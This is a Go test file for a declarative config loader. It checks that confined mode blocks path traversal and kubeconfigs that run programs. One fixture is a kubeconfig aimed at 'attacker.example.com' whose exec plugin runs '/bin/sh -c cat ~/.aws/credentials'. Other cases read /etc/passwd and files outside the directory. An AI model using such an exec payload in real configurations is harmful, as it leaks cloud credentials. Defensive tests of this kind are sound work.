package config_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/declarative-gardener/gardener/components/catalog"
	"github.com/declarative-gardener/gardener/engine/config"
	"github.com/declarative-gardener/gardener/engine/landscapefs"
)

const execKubeconfig = `apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://attacker.example.com"}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: ["-c", "cat ~/.aws/credentials"]}}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
`

// TestConfinedLandscapes: in confined mode every path a landscape names stays inside its
// directory, and a kubeconfig it ships may not run programs; each refusal is a diagnostic at the
// expression or attribute that names the path. Outside confined mode the same landscape loads.
func TestConfinedLandscapes(t *testing.T) {
	tests := []struct {
		name  string
		files map[string]string
		want  []string
	}{
		{
			name:  "file() of an absolute path",
			files: map[string]string{"main.hcl": header + "locals {\n  passwd = file(\"/etc/passwd\")\n}\n"},
			want:  []string{"main.hcl:3:18: Invalid function argument"},
		},
		{
			name:  "file() through a link out",
			files: map[string]string{"main.hcl": header + "locals {\n  s = file(\"link\")\n}\n", "link": "-> ../outside/secret"},
			want:  []string{"main.hcl:3:13: Invalid function argument"},
		},
		{
			name:  "templatefile() that reads out",
			files: map[string]string{"main.hcl": header + "locals {\n  s = templatefile(\"t.tftpl\", {})\n}\n", "t.tftpl": `${file("../outside/secret")}`},
			want:  []string{"main.hcl:3:7: Error in function call"},
		},
		{
			name:  "a landscape file linked out",
			files: map[string]string{"main.hcl": header, "more.hcl": "-> ../outside/more.hcl"},
			want:  []string{"more.hcl:1:1: Outside the landscape directory"},
		},
		{
			name: "manifest files",
			files: map[string]string{"main.hcl": header + `cluster "c" {}
component "manifests" "m" {
  cluster = cluster.c
  files   = ["ok.yaml", "../outside/objects.yaml"]
}
`, "ok.yaml": ""},
			want: []string{"main.hcl:5:13: Outside the landscape directory"},
		},
		{
			name: "a chart",
			files: map[string]string{"main.hcl": header + `cluster "c" {}
component "helm_release" "r" {
  cluster   = cluster.c
  chart     = "../outside"
  namespace = "apps"
}
`},
			want: []string{"main.hcl:5:15: Outside the landscape directory"},
		},
		{
			name:  "a kubeconfig outside",
			files: map[string]string{"main.hcl": header + "cluster \"c\" {\n  kubeconfig = \"/root/.kube/config\"\n}\n"},
			want:  []string{"main.hcl:3:16: Outside the landscape directory"},
		},
		{
			name:  "a kubeconfig inside that runs a program",
			files: map[string]string{"main.hcl": header + "cluster \"c\" {\n  kubeconfig = \"kubeconfig.yaml\"\n}\n", "kubeconfig.yaml": execKubeconfig},
			want:  []string{"main.hcl:3:16: Kubeconfig refused in confined mode"},
		},
		{
			name:  "a local state outside",
			files: map[string]string{"main.hcl": "landscape \"l\" {\n  state {\n    backend = \"local\"\n    path    = \"../outside/state\"\n  }\n}\n"},
			want:  []string{"main.hcl:4:15: Outside the landscape directory"},
		},
	}
	reg := catalog.Schemas()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			parent := t.TempDir()
			dir := filepath.Join(parent, "landscape")
			writeLandscape(t, filepath.Join(parent, "outside"), map[string]string{"secret": "s3cr3t", "more.hcl": "locals {}\n", "objects.yaml": ""})
			writeLandscape(t, dir, tt.files)

			_, diags := config.Load(dir, reg, config.InputSources{Trust: landscapefs.Policy{Confined: true}})
			assert.Equal(t, tt.want, summarize(dir, diags), diags.Error())
			assert.NotContains(t, diags.Error(), "s3cr3t")
			assert.Contains(t, diags.Error(), "confined mode")

			_, diags = config.Load(dir, reg, config.InputSources{})
			assert.False(t, diags.HasErrors(), "outside confined mode the landscape loads: %s", diags.Error())
		})
	}
}

// The operator's own kubeconfigs are not confined: a cluster block may name one in the
// operator's kubeconfig directories (the daemon's mounted Secret), exec plugins and all, and one
// that names none uses KUBECONFIG or ~/.kube/config.
func TestConfinedModeKeepsTheOperatorsKubeconfigs(t *testing.T) {
	parent := t.TempDir()
	dir, kubeconfigs := filepath.Join(parent, "landscape"), filepath.Join(parent, "kubeconfigs")
	writeLandscape(t, kubeconfigs, map[string]string{"virtual-garden": execKubeconfig})
	writeLandscape(t, dir, map[string]string{"main.hcl": header + `
cluster "virtual" {
  kubeconfig = "` + filepath.Join(kubeconfigs, "virtual-garden") + `"
}

cluster "runtime" {
  context = "garden-runtime"
}
`})
	trust := landscapefs.Policy{Confined: true, KubeconfigDirs: []string{kubeconfigs}}
	_, diags := config.Load(dir, catalog.Schemas(), config.InputSources{Trust: trust})
	require.False(t, diags.HasErrors(), diags.Error())

	require.NoError(t, os.Remove(filepath.Join(kubeconfigs, "virtual-garden")))
	_, diags = config.Load(dir, catalog.Schemas(), config.InputSources{Trust: landscapefs.Policy{Confined: true}})
	assert.Equal(t, []string{"main.hcl:4:16: Outside the landscape directory"}, summarize(dir, diags), "without the directory the path is the landscape's")
}
